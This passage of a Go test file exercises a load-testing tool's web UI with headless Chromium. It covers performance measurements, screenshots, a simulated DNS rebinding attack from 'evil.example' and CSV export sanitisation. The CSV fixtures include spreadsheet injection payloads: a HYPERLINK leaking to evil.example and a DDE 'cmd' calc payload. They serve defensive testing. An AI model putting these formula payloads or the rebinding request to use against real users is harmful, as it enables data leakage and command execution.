		return 0, 0, 0
	}
	s := slices.Clone(v)
	slices.Sort(s)
	return s[len(s)/2], s[min(len(s)-1, len(s)*95/100)], s[len(s)-1]
}

// TestUIFluidity measures, in the page, one live update with 2,000
// endpoints and a 4-hour history (14,400 points, downsampled to 1,200):
// parse, render (commit) and until the next frame, on the statistics and
// on the charts tab, plus long tasks. The figures are in web/ui/README.md.
// It is a measurement, so it runs only when asked for, with HERD_UI_PERF_OUT
// naming the file the figures go to; its only verdicts are structural (the
// rows are windowed, a chart is drawn, the page logs no error), never a time.
func TestUIFluidity(t *testing.T) {
	if os.Getenv("HERD_UI_PERF_OUT") == "" {
		t.Skip("a measurement: set HERD_UI_PERF_OUT=FILE to run it")
	}
	const endpoints = 2000
	now := time.Now().Truncate(time.Second)
	seq := uint64(0)
	f := &uiFakeAPI{
		every: time.Second,
		status: Status{
			State: StateRunning, Users: 500, TargetUsers: 500, SpawnRate: 10, Host: "https://big.example.test",
			StartedAt: now.Add(-4 * time.Hour),
		},
		snap:    uiManySnapshot(now, endpoints, 0),
		history: uiLongHistory(now, 4*3600),
	}
	f.tick = func(f *uiFakeAPI, now time.Time) {
		seq++
		f.snap = uiManySnapshot(now, endpoints, seq)
		last := f.history[len(f.history)-1]
		last.Time = last.Time.Add(time.Second)
		f.history = append(f.history, last)
	}
	page := uiNewPage(t, false, uiPerfSetup)
	u := uiServe(t, f)
	page.do(t, "open the UI", chromedp.Navigate(u))
	page.wait(t, "the stats rows", rowsSel+`.length > 0`)
	loaded := uiEval[float64](t, page, `performance.now()`)
	rendered := uiEval[int](t, page, rowsSel+`.length`)
	if rendered > 150 {
		t.Errorf("%d rows rendered for %d endpoints: not windowed", rendered, endpoints)
	}
	// Steady state on the statistics tab.
	page.wait(t, "9 updates on the statistics tab", `window.__herdPerf.updates.filter(u => u.tab === 'stats').length >= 9`)
	// Sorting 2,000 rows, in the page: click to the next frame.
	sortMs := uiEval[float64](t, page, `(async () => {
	  const b = document.querySelector('#stats-table th[data-key=p99] button');
	  const t0 = performance.now(); b.click();
	  await new Promise(r => requestAnimationFrame(() => setTimeout(r, 0)));
	  return performance.now() - t0; })()`)
	page.do(t, "open the charts", chromedp.Click(chromedp.CSS("#tab-charts")))
	page.wait(t, "9 updates on the charts tab", `window.__herdPerf.updates.filter(u => u.tab === 'charts').length >= 9`)
	perfJSON := uiEval[string](t, page, `JSON.stringify(window.__herdPerf)`)
	var perf uiPerf
	if err := json.Unmarshal([]byte(perfJSON), &perf); err != nil {
		t.Fatal(err)
	}
	points := uiEval[int](t, page, `document.querySelector('#charts canvas') ? 1 : 0`)
	if points == 0 {
		t.Fatal("no chart")
	}
	report := func(tab string) (parse, commit, frame []float64, bytes int) {
		seen := 0
		for _, u := range perf.Updates {
			if u.Tab != tab {
				continue
			}
			if seen++; seen == 1 {
				continue // the first one after a switch includes mounting
			}
			parse, commit, frame = append(parse, u.Parse), append(commit, u.Commit), append(frame, u.Frame)
			bytes = u.Bytes
		}
		return
	}
	var lines []string
	for _, tab := range []string{"stats", "charts"} {
		parse, commit, frame, bytes := report(tab)
		p50p, _, maxp := uiStatsOf(parse)
		p50c, _, maxc := uiStatsOf(commit)
		p50f, _, maxf := uiStatsOf(frame)
		lines = append(lines, fmt.Sprintf("%-6s tab: update %d KB, %d samples: JSON.parse p50 %.1f ms (max %.1f), parse+render p50 %.1f ms (max %.1f), to next frame p50 %.1f ms (max %.1f)",
			tab, bytes/1024, len(parse), p50p, maxp, p50c, maxc, p50f, maxf))
	}
	var longAfterLoad []float64
	for _, lt := range perf.LongTasks {
		if lt.Start > loaded {
			longAfterLoad = append(longAfterLoad, lt.Duration)
		}
	}
	_, _, maxLong := uiStatsOf(longAfterLoad)
	lines = append(lines, fmt.Sprintf("first render of %d endpoints at %.0f ms after navigation start (%d rows in the DOM); sort 2,000 rows by 99%%ile: %.1f ms to the next frame; long tasks (>50 ms) after load: %d, longest %.0f ms",
		endpoints, loaded, rendered, sortMs, len(longAfterLoad), maxLong))
	for _, l := range lines {
		t.Log(l)
	}
	if out := os.Getenv("HERD_UI_PERF_OUT"); out != "" {
		os.WriteFile(out, []byte(strings.Join(lines, "\n")+"\n"), 0o644)
	}
	page.checkClean(t)
}

// TestUIScreenshot writes screenshots of the UI and the report at 1366×768
// into the directory $HERD_UI_SCREENSHOTS (skipped without it); the chosen
// one is docs/screenshot.png.
func TestUIScreenshot(t *testing.T) {
	dir := os.Getenv("HERD_UI_SCREENSHOTS")
	if dir == "" {
		t.Skip("set HERD_UI_SCREENSHOTS to a directory to write screenshots")
	}
	for _, dark := range []bool{false, true} {
		theme := map[bool]string{false: "light", true: "dark"}[dark]
		f := uiShopAPI(1080, time.Second)
		page := uiNewPage(t, dark)
		u := uiServe(t, f)
		shot := func(name string) {
			t.Helper()
			// Let a few updates arrive so the live values settle.
			page.wait(t, "two frames", `new Promise(r => requestAnimationFrame(() => requestAnimationFrame(() => r(true))))`)
			b, err := chromedp.Run(page.ctx, chromedp.CaptureScreenshot())
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, name+"-"+theme+".png"), b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		page.do(t, "open the UI", chromedp.Navigate(u))
		page.wait(t, "the stats rows", fmt.Sprintf(`%s.length === %d`, rowsSel, len(uiShop)))
		shot("stats")
		page.do(t, "charts", chromedp.Click(chromedp.CSS("#tab-charts")))
		page.wait(t, "the charts", `document.querySelectorAll('#charts canvas').length === 3`)
		shot("charts")
		page.do(t, "errors", chromedp.Click(chromedp.CSS("#tab-errors")), chromedp.Click(chromedp.CSS("#errors summary")))
		shot("errors")
		page.do(t, "tasks", chromedp.Click(chromedp.CSS("#tab-tasks")))
		page.wait(t, "the tasks", `document.querySelectorAll('#tasks .ratio-row').length > 3`)
		shot("tasks")
		f.mu.Lock()
		f.status.IsMaster = true
		f.status.Workers = []WorkerInfo{
			{ID: "loadgen-1_5c2a9e", Index: 0, State: WorkerRunning, Users: 100, CPU: 63.5, Memory: 410 << 20},
			{ID: "loadgen-2_77c0d1", Index: 1, State: WorkerRunning, Users: 100, CPU: 94.2, Memory: 1536 << 20},
			{ID: "loadgen-3_b41f08", Index: 2, State: WorkerMissing, Users: 0, CPU: 0, Memory: 96 << 20},
			{ID: "loadgen-4_0d9e33", Index: 3, State: WorkerSpawning, Users: 100, CPU: 38.9, Memory: 388 << 20},
		}
		f.mu.Unlock()
		page.do(t, "workers", chromedp.Click(chromedp.CSS("#tab-tasks")))
		page.wait(t, "the workers tab", `!!document.getElementById('tab-workers')`)
		page.do(t, "workers", chromedp.Click(chromedp.CSS("#tab-workers")))
		page.wait(t, "the workers", `document.querySelectorAll('#workers tbody tr.row').length === 4`)
		shot("workers")
		page.do(t, "edit", chromedp.Click(chromedp.CSS("#tab-stats")), chromedp.Click(chromedp.CSS("#edit-test")), chromedp.WaitVisible(chromedp.CSS("#edit-form")))
		shot("edit")
		f.mu.Lock()
		f.status.State = StateReady
		f.mu.Unlock()
		page.do(t, "reload ready", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("#start-form")))
		shot("start")

		file := filepath.Join(t.TempDir(), "report.html")
		out, _ := os.Create(file)
		f.mu.Lock()
		r := Report{Title: "Shop checkout, 300 users", Host: f.status.Host, Users: 300, SpawnRate: 5, RunTime: 30 * time.Minute,
			UserClasses: []string{"Shopper", "APIClient"}, Start: f.status.StartedAt, End: f.snap.Time, Stats: f.snap, History: f.history,
			Workers: f.status.Workers}
		f.mu.Unlock()
		if err := WriteHTMLReport(out, r); err != nil {
			t.Fatal(err)
		}
		out.Close()
		page.do(t, "open the report", chromedp.Navigate((&url.URL{Scheme: "file", Path: file}).String()))
		page.wait(t, "the report", `document.querySelectorAll('#charts-section canvas').length === 3`)
		shot("report")
		b, err := chromedp.Run(page.ctx, chromedp.FullScreenshot(100))
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(dir, "report-full-"+theme+".png"), b, 0o644)
	}
}

// uiReboundHost is a name the shared browser resolves to 127.0.0.1
// (host-resolver-rules), as DNS rebinding makes an attacker's name do.
const uiReboundHost = "evil.example"

// swarmHeaders serves h and records the Host, Origin and Sec-Fetch-Site of
// every POST to /swarm.
type swarmHeaders struct {
	h    http.Handler
	mu   sync.Mutex
	seen [][3]string
}

func (s *swarmHeaders) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/swarm") {
		s.mu.Lock()
		s.seen = append(s.seen, [3]string{r.Host, r.Header.Get("Origin"), r.Header.Get("Sec-Fetch-Site")})
		s.mu.Unlock()
	}
	s.h.ServeHTTP(w, r)
}

// TestBrowserDNSRebinding: a page of a rebound name (the browser resolves
// evil.example to 127.0.0.1, where the UI listens) posts a start to
// /swarm, as its own same-origin request: Host and Origin evil.example,
// Sec-Fetch-Site same-origin, which the CSRF check lets through. Without
// --web-auth the Host check refuses it with 421 and no test starts; the
// same request with --web-host-allow evil.example starts one, so the
// refusal is the Host check's.
func TestBrowserDNSRebinding(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name   string
		allow  []string
		status int
		swarms int
	}{
		{"refused", nil, http.StatusMisdirectedRequest, 0},
		{"allowed", []string{uiReboundHost}, http.StatusOK, 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFake()
			s := New(Options{Addr: "127.0.0.1:0", AllowedHosts: tt.allow, Assets: Assets()}, f)
			rec := &swarmHeaders{h: s.Handler()}
			ts := httpTestServerHandler(t, s, rec)
			u, err := url.Parse(ts.URL)
			if err != nil {
				t.Fatal(err)
			}
			origin := "http://" + uiReboundHost + ":" + u.Port()
			page := uiNewPage(t, false)
			page.do(t, "open the rebound name", chromedp.Navigate(origin+"/"))
			if tt.status == http.StatusMisdirectedRequest {
				page.wait(t, "the refusal", `document.body.innerText.includes('DNS rebinding')`)
			} else {
				page.wait(t, "the UI", rowsSel+`.length > 0`)
			}
			got := uiEval[string](t, page, `(async () => {
			  const r = await fetch('/swarm', {method: 'POST', headers: {'Content-Type': 'application/x-www-form-urlencoded'},
			    body: 'user_count=5&spawn_rate=1'});
			  return r.status + ' ' + (await r.text()); })()`)
			if !strings.HasPrefix(got, strconv.Itoa(tt.status)+" ") {
				t.Errorf("POST /swarm from %s: %q, want %d", origin, got, tt.status)
			}
			if swarms, _, _ := f.calls(); swarms != tt.swarms {
				t.Errorf("%d tests started, want %d", swarms, tt.swarms)
			}
			rec.mu.Lock()
			seen := slices.Clone(rec.seen)
			rec.mu.Unlock()
			// Chromium sends Sec-Fetch-Site only to secure origins (https,
			// localhost): over http the request has no such header, and
			// its Origin matches its Host, so CSRF checks pass it. It may
			// send a request answered 421 twice (a retry on a fresh
			// connection).
			if len(seen) == 0 || len(seen) > 2 {
				t.Errorf("%d POSTs to /swarm reached the server", len(seen))
			}
			for _, h := range seen {
				if h[0] != uiReboundHost+":"+u.Port() || h[1] != origin || (h[2] != "" && h[2] != "same-origin") {
					t.Errorf("a POST to /swarm with Host, Origin, Sec-Fetch-Site %q: not the rebound page's own request", h)
				}
			}
			page.checkClean(t, "421")
		})
	}
}

// TestBrowserCSVDownloadNeutralised: the CSV files the Download tab saves,
// of a run whose name, failure and error texts are spreadsheet formulas,
// hold them with a leading quote and no control byte.
func TestBrowserCSVDownloadNeutralised(t *testing.T) {
	t.Parallel()
	const link = `=HYPERLINK("http://evil.example/?leak","click me")`
	f := newFake()
	snap := *sampleSnapshot()
	snap.Entries = slices.Clone(snap.Entries)
	snap.Entries[0].Name = link
	snap.Failures = []stats.Failure{{Method: "GET", Name: link, Error: "@SUM(1+1)\x1b[2J", Occurrences: 2}}
	snap.Errors = []stats.Error{{Message: "+cmd|' /C calc'!A0", Trace: "-trace", Count: 1, Nodes: []string{"=w1"}}}
	f.snap = &snap
	f.history = []stats.HistoryRow{{Time: t0, Users: 1, Method: "GET", Name: link, Requests: 1}}
	s := New(Options{Assets: Assets()}, f)
	ts := httpTestServerHandler(t, s, s.Handler())
	page := uiNewPage(t, false)
	dir := t.TempDir()
	if _, err := chromedp.Call(page.ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
		Behavior: browser.SetDownloadBehaviorBehaviorAllow, BrowserContextID: chromedp.FromContext(page.ctx).BrowserContextID, DownloadPath: dir,
	}); err != nil {
		t.Fatalf("allow downloads: %v", err)
	}
	page.do(t, "open the downloads", chromedp.Navigate(ts.URL+"/#download"))
	page.wait(t, "the download links", `document.querySelectorAll('#downloads li a').length >= 6`)
	for _, tt := range []struct {
		href, prefix string
		want         []string
	}{
		{"stats/requests/csv", "requests_", []string{`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`}},
		{"stats/history/csv", "stats_history_", []string{`"'=HYPERLINK(`}},
		{"stats/failures/csv", "failures_", []string{`"'=HYPERLINK(`, ",'@SUM(1+1)\uFFFD[2J,"}},
		{"exceptions/csv", "exceptions_", []string{",'+cmd|' /C calc'!A0,'-trace,'=w1\r\n"}},
	} {
		// The link's own click (a synthetic mouse click at its position
		// does not reach it in headless Chromium here).
		uiEval[bool](t, page, fmt.Sprintf(`(document.querySelector('#downloads a[href=%q]').click(), true)`, tt.href))
		body := uiDownloaded(t, dir, tt.prefix)
		for _, w := range tt.want {
			if !strings.Contains(body, w) {
				t.Errorf("%s lacks %q:\n%s", tt.href, w, body)
			}
		}
		if strings.Contains(body, "\x1b") || strings.Contains(body, `,"=`) || strings.Contains(body, ",=") ||
			strings.Contains(body, ",+") || strings.Contains(body, ",@") || strings.Contains(body, ",-t") {
			t.Errorf("%s: a formula or a control byte left as it was:\n%q", tt.href, body)
		}
	}
	page.checkClean(t)
}

// uiDownloaded waits for the download whose file name starts with prefix
// to complete in dir (Chromium renames it from .crdownload) and returns
// its content.
func uiDownloaded(t *testing.T, dir, prefix string) string {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		matches, _ := filepath.Glob(filepath.Join(dir, prefix+"*.csv"))
		if len(matches) == 1 {
			b, err := os.ReadFile(matches[0])
			if err != nil {
				t.Fatal(err)
			}
			return string(b)
		}
		if time.Now().After(deadline) {
			entries, _ := os.ReadDir(dir)
			t.Fatalf("no download %s*.csv in %s: %v", prefix, dir, entries)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
